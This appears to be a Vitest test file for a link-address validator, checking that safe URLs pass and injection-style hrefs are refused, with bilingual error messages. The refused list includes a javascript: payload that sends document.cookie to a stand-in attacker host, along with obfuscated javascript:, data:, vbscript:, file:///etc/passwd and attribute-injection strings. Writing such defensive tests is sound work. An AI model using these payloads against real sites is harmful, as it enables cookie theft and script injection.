import { describe, expect, it } from "vitest";
import { externalLink, isSafeHref } from "./common.ts";
import { ruleOf, ruleText } from "./rules.ts";

describe("a link's address", () => {
  it.each([
    "https://www.linkedin.com/company/example",
    "http://example.org/a?b=c#d",
    "mailto:info@example.org",
    "tel:+390000000000",
    "/contact",
    "/it/quote?material=duplex",
  ])("accepts %s", (href) => expect(isSafeHref(href)).toBe(true));

  it.each([
    "javascript:fetch('//evil.example/'+document.cookie)",
    "JavaScript:alert(1)",
    " javascript:alert(1)",
    "java\tscript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
    "file:///etc/passwd",
    "//evil.example/",
    "/\\evil.example",
    "www.example.org",
    "https://",
    'https://example.org/"onmouseover="alert(1)',
  ])("refuses %s", (href) => expect(isSafeHref(href)).toBe(false));

  it("refuses an unsafe link with a plain message in English and Italian", () => {
    const result = externalLink.safeParse({ label: "Map", href: "javascript:alert(1)" });
    expect(result.success).toBe(false);
    const said = ruleOf(result.error?.issues[0]?.message ?? "");
    expect(ruleText("en", said)).toMatch(/https:\/\//);
    expect(ruleText("it", said)).toMatch(/indirizzo web/);
  });
});
